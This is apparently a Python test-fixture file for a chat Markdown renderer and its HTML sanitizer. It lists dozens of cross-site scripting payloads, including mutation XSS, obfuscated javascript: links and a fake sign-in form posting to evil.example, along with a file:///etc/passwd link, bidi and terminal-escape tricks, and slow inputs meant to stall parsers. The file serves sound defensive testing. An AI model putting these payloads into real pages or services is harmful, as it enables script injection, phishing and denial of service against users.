"""Messages that attack the page, messages that are slow to read, and messages that people write."""

#: By what they try. Each is given to both lines of defence.
HOSTILE = {
    "script": "<script>alert(1)</script> and <SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "split script": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "event": '<img src=x onerror="alert(1)"><body onload=alert(1)><svg/onload=alert(1)>',
    "event without quotes": "<a href=x onclick=alert(1)//>x</a><details open ontoggle=alert(1)>",
    "svg": "<svg><script>alert(1)</script><a xlink:href='javascript:alert(1)'><text>x</text></a>",
    "svg animation": "<svg><animate attributeName=href values=javascript:alert(1) /></svg>",
    "math": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph>",
    "mutation by style": "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "mutation by form": "<form><math><mtext></form><form><mglyph><style></math><img src onerror=x>",
    "mutation by noscript": "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "mutation by template": "<template><s><template><s><img src=x onerror=alert(1)>@shafigullin",
    "mutation by comment": "<!--><img src=x onerror=alert(1)>--> <!--a foo=--!><img src onerror=x>",
    "mutation by title": "<title><a title='</title><img src=x onerror=alert(1)>'>",
    "mutation by textarea": "<textarea><img title='</textarea><img src=x onerror=alert(1)>'>",
    "mutation by xmp": "<xmp><p title='</xmp><svg/onload=alert(1)>'></xmp><plaintext><b>",
    "instruction": "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY y 'z'>]><![CDATA[<b>x</b>]]>",
    "style": "<style>*{display:none}</style><p style='position:fixed;inset:0'>x</p>",
    "base": "<base href='https://evil.example/'>[x](y)",
    "meta": "<meta http-equiv=refresh content='0;url=javascript:alert(1)'><link rel=import href=x>",
    "form": (
        "<form action=//evil.example><input name=password><button formaction=x>Sign in</button>"
    ),
    "frame": "<iframe srcdoc='<script>alert(1)</script>'></iframe><object data=x><embed src=x>",
    "unclosed": "<div><table><b><a href='x'><!-- **bold",
    "closing": "</div></main></body></html></figure></pre></code></td></table>",
    "entities": (
        "&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62; &#x3c;b"
    ),
    "javascript link": (
        "[x](javascript:alert(1)) [x](JaVaScRiPt:alert(1)) [x](<javascript:alert(1)>)"
    ),
    "javascript in pieces": (
        "[x](java\tscript:alert(1)) [x](<java\nscript:a>) [x](\x01javascript:a)"
    ),
    "javascript by entities": (
        "[x](javascript&colon;alert(1)) [x](&#106;avascript:a) [x](java&Tab;script:a)"
    ),
    "javascript by escapes": (
        "[x](javascript\\:alert(1)) [x](java%73cript:a) [x](&#x6A&#x61;vascript:a)"
    ),
    "other schemes": (
        "[x](vbscript:a) [x](data:text/html,<script>a</script>) [x](file:///etc/passwd)"
    ),
    "schemes of programs": (
        "[x](intent://a) [x](ms-msdt:/id) [x](tel:1) [x](blob:http://a) [x](about:blank)"
    ),
    "relative": (
        "[x](/settings) [x](//evil.example) [x](?a) [x](#top) [x](../x) [x](\\\\evil.example)"
    ),
    "empty address": "[x]() ![x]() [x](<>) [](<> 'title') [x]\n\n[x]: <>",
    "quotes in link": '[x](http://a.example/"onmouseover="alert(1)) [x](http://a.example/\'><b>)',
    "title of link": (
        "[x](http://a.example \"' onclick='alert(1)\") [x](http://a.example '\"><script>')"
    ),
    "link definition": (
        "[x]\n\n[x]: javascript:alert(1)\n[y]: <data:text/html,x> 'title'\n\n[y] ![y]"
    ),
    "link in pointed brackets": (
        "<javascript:alert(1)> <data:text/html,x> <http://a.example/'onx='> <x@y.z>"
    ),
    "backslash in host": "[x](https://good.example\\@evil.example) [x](https:\\\\evil.example)",
    "user in host": "https://good.example@evil.example [x](https://good.example:443@evil.example/)",
    "host without slashes": (
        "[x](https:evil.example) [x](http:///evil.example) [x](https:/evil.example)"
    ),
    "bare address": (
        'http://a.example/<script>alert(1)</script> http://a.example/"onx=" www.a.example\'><b>'
    ),
    "bare scheme": "javascript:alert(1) xhttp://a.example ahttps://b.example data:text/html,x",
    "mail": "<a@b.example?subject=x&body=y> mailto:a@b.example?cc=c@d.example [x](mailto:)",
    "image": (
        "![x](https://evil.example/track.png) ![](//evil.example/a.gif) "
        "![x](data:image/png;base64,AA)"
    ),
    "image with event": '![x" onerror="alert(1)](https://a.example/x.png "y" onload="alert(1)")',
    "image in link": (
        "[![x](https://a.example/i.png)](https://b.example) ![[x](http://c.example)](http://d.e)"
    ),
    "link in link": (
        "[a [b](http://b.example) c](http://c.example) [<http://d.example>](http://e.example)"
    ),
    "info of code": (
        '```"><script>alert(1)</script>\nx\n```\n~~~ " class="secret" id="secret\nx\n~~~'
    ),
    "info with entities": "```&quot;&gt;&lt;img&#x20;src&gt;\nx\n```\n```js&#32;onclick=x\nx\n```",
    "code": "`<script>` ``` `</code><img src=x>` ```\n\n    </code></pre><script>alert(1)</script>",
    "code that closes": "```html\n</code></pre></figure><script>alert('&lt;')</script>\n```",
    "classes": "# x {#secret .secret}\n\n- x {: .secret }\n\n<p class=secret id=secret>x</p>",
    "names of the page": (
        "<img name=getElementById><a id=document></a><form id=x><input name=attributes>"
    ),
    "table": "|<script>|`|`|\n|---|:-:|\n|\\||<img src=x onerror=a>|\n|[x](javascript:a)|",
    "table with styles": '|a|b|\n|:-" style="x|-:|\n|1|2|\n\n|a|\n|:---:|\n|<td style=x>|',
    "task": '- [ ] <input type=text name=x>\n- [x] " onclick="x\n- [X]\n- [ ]x',
    "formula": "$<script>$ $$<img src=x>$$ \\(</code>\\) \\[<b>\\]\n\n$$\n</pre><script>\n$$",
    "bidi": (
        "a\u202eb\u2066c\u2069 `\u202ed` [e\u202e](http://a.example/\u202ef) &#x202e;g &#8238;h"
    ),
    "bidi in code": "```py\nif access != 'user\u202e \u2066# admin\u2069 \u2066':\n```",
    "invisible": (
        "pass\u200bword \ufeff\u00ad `a\u200bb` \U000e0068\U000e0069 \u2028 \u2029 \x85 \x1c"
    ),
    "terminal": (
        "\x1b[31mred\x1b[0m \x1b]8;;http://evil.example\x07x\x1b]8;;\x07 \x9b1m \x1b\x1b[ \x1b"
    ),
    "sequence in sequence": (
        "<scr\x1b[0mipt>x</script> java\x1b[0mscript:a [x](java\x1b[0mscript:a)"
    ),
    "nul": "<scr\0ipt>alert(1)</script> [x](java\0script:alert(1)) \0 &#0;",
    "controls": "\x01\x02\x07\x08\x0b\x0c\x0e\x1f\x7f\x80\x9f",
    "half of a character": "a\ud800b [x](http://a.example/\udfff) `\ud83d`",
    "wide brackets": "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e \u2039img\u203a",
    "deep": "> " * 60 + "<script>\n" + "- " * 60 + "<img src=x>\n" + "[" * 60 + "x](javascript:a)",
    "deep lines": "\n".join(" " * 2 * depth + "- <b>" for depth in range(40)),
}

#: HTML that no message becomes. The second line of defence meets it alone.
HOSTILE_HTML = {
    "attributes": (
        '<a href="javascript:a" onclick="a" style="x" id="y" class="z host" name="n">x</a>'
    ),
    "relative": '<a href="/x">x</a><a href="//evil.example">x</a><a href="&#106;avascript:a">x</a>',
    "input": '<input type="text" name="password" value="x" formaction="y"><input type="submit">',
    "button": (
        '<button type="submit" form="x" formaction="//evil.example" class="copy primary">x</button>'
    ),
    "classes": '<span class="char admin">x</span><div class="dialog">x</div><p class="x">y</p>',
    "headings": "<h1>x</h1><h2>y</h2><main>z</main><dialog open>w</dialog>",
    "namespaces": "<svg><a href='javascript:x'>y</a></svg><math href='javascript:x'>y</math>",
    "links in links": '<a href="http://a.example">x<a href="http://b.example">y</a></a>',
}

_N = 100_000


def _repeat(text: str) -> str:
    return (text * (_N // len(text) + 1))[:_N]


#: Messages as long as users may send, of what parsers are slow at.
SLOW = {
    "brackets": _repeat("["),
    "images": _repeat("!["),
    "links": _repeat("[]("),
    "stars": _repeat("*"),
    "stars and lines": _repeat("*_"),
    "open emphasis": _repeat("*a **a "),
    "closing emphasis": _repeat("a* a** "),
    "backticks": " ".join("`" * length for length in range(1, 440)),
    "backticks in brackets": _repeat("[`"),
    "quotes": _repeat("> "),
    "quotes over lines": "> " * 5_000 + "a\n" + "b\n" * 45_000,
    "lists in lists": "- " * 50_000,
    "deep lists": "\n".join(" " * depth + "- a" for depth in range(440)),
    "items": _repeat("- a\n"),
    "lines": _repeat("a\n"),
    "one line": _repeat("The *quick* brown `fox` jumps. "),
    "one word": _repeat("a"),
    "blank lines": _repeat("\n"),
    "columns": "\n".join(["|" + each * 5_000 for each in ("a|", "-|", "a|", "a|")]),
    "completed cells": "|" + "a|" * 90 + "\n|" + "-|" * 90 + "\n" + "|a|\n" * 20_000,
    "heads of tables": _repeat("|a|\n|-|\n"),
    "open formulas": _repeat("\\[\n"),
    "open formulas in a line": _repeat("\\("),
    "dollars": _repeat("$a "),
    "prices": _repeat(f"$$1{' ' * 3_990}= x$$ "),
    "definitions": _repeat("[a]: b\n"),
    "open definition": "[a]: /b '" + _repeat("a\n"),
    "entities": _repeat("&#65;"),
    "addresses": _repeat("http://a.bb "),
    "closing brackets in an address": "http://a.bb/" + _repeat(")"),
    "mail": _repeat("a@"),
    "images in images": "![" * 5_000 + "a" + "](http://a.bb)" * 5_000,
    "terminal": _repeat("\x1b]"),
    "hidden": _repeat("\u202e"),
    "open strings": "```js\n" + '"' * 49_000,
    "open comments": "```c\n" + "/*" * 24_000,
    "blank lines of code": "```java\n" + "\n" * 49_000,
    "open tags": "```html\n" + "<a " * 16_000,
    "words of code": "```java\n" + "int a " * 8_000,
}

_TABLE = """\
| Check | Result | Took |
|:------|:------:|-----:|
| unit tests | **passed** | 12 s |
| lint | ~~failed~~ passed | 3 s |
| `deploy` | waits for [approval](https://ci.example.com/run/7) | |
"""
_PYTHON = '''\
```python
def retry(work, *, times: int = 3):
    """Try again, a few times."""
    for attempt in range(times):  # the last failure is raised
        try:
            return work()
        except OSError as error:
            if attempt == times - 1:
                raise RuntimeError(f"failed {times} times") from error
```
'''

#: Messages as people and models write them, without definitions of links.
NORMAL = {
    "sentence": "I moved the report to Monday at 8:00, and will tell you when it is done.",
    "lines": "First line\nsecond line\n\nNew paragraph with *emphasis* and **weight**.",
    "steps": (
        "Do this:\n\n1. Open **Settings**.\n2. Choose `Models`.\n   - or press "
        "<kbd>m</kbd>\n3. Done."
    ),
    "loose list": "- one\n\n- two\n\n  with more\n\n- three\n\nAfter it.",
    "tasks": "## Today\n\n- [x] write\n- [ ] test\n  - [ ] on PostgreSQL\n\nThat is all.",
    "table": f"Results:\n\n{_TABLE}\nAll good.",
    "code": (
        f"Here it is:\n\n{_PYTHON}\nThen run:\n\n```bash\n# a comment\npytest -q | tail "
        "-1\n```\nDone."
    ),
    "code in list": '1. Write:\n\n   ```json\n   {"a": [1, null]}\n   ```\n\n2. Save.\n\nEnd.',
    "formula": (
        "The energy is $E = m c^2$:\n\n$$\n\\int_0^1 x_1 * y_2 \\, dx\n$$\n\nand "
        "\\(a_b\\), \\[c * d * e\\]."
    ),
    "quote": "> quoted\n> twice\n\nAnswer.\n\n> another\n\n---\n\nEnd",
    "headings": "# One\ntext\n## Two\ntext\n\nThree\n=====\n\n#### Four\n",
    "open code": "Look:\n```sh\n# not a heading\n\n- not a list",
    "windows": "One\r\n\r\n```\r\na\r\n```\r\n\r\n- b\r\n- c\r\n",
    "prices": "It costs $5 to $10, or 5$ less with $HOME and $PATH.",
}

#: A message of 3.8 KB with a table and code, for measuring.
LONG = "\n\n".join(
    [
        "# Report",
        NORMAL["steps"],
        NORMAL["table"],
        NORMAL["code"],
        NORMAL["tasks"],
        NORMAL["formula"],
        *["The nightly job took **12 minutes**, see https://ci.example.com/run/7 for its log. " * 5]
        * 7,
        NORMAL["loose list"],
    ]
)
